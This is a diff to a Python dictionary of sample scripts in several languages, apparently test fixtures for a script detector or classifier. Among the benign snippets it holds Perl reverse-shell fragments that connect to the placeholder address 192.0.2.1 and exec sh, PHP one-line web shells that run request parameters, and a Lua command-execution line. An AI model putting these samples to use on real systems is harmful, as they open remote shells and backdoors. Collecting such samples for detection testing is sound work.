@@ -44,6 +44,7 @@ SCRIPTS: dict[str, tuple[str, ...]] = {
     "perl": (
         'use strict;\nmy $x = shift;\nprint "$x\\n";\n',
         "perl -e 'use Socket;$i=\"192.0.2.1\";socket(S,PF_INET,SOCK_STREAM,6);'",
+        'use Socket;$p=9;connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("sh");',
     ),
     "php": ('<?php system($_GET["c"]); ?>', "<?=`$_GET[0]`?>"),
     "javascript": (
@@ -59,7 +60,10 @@ SCRIPTS: dict[str, tuple[str, ...]] = {
             " x\n    end\n  end\nend\n"
         ),
     ),
-    "lua": ("local function f(x)\n  return x\nend\nlocal y = f(1)\n",),
+    "lua": (
+        "local function f(x)\n  return x\nend\nlocal y = f(1)\n",
+        'local s=require("socket");local f=assert(io.popen(r,"r"));print(f:read("*a"));',
+    ),
     "awk": ('BEGIN { FS = ":" }\n$3 > 999 { print $1 }\n',),
     "sct": (
         (
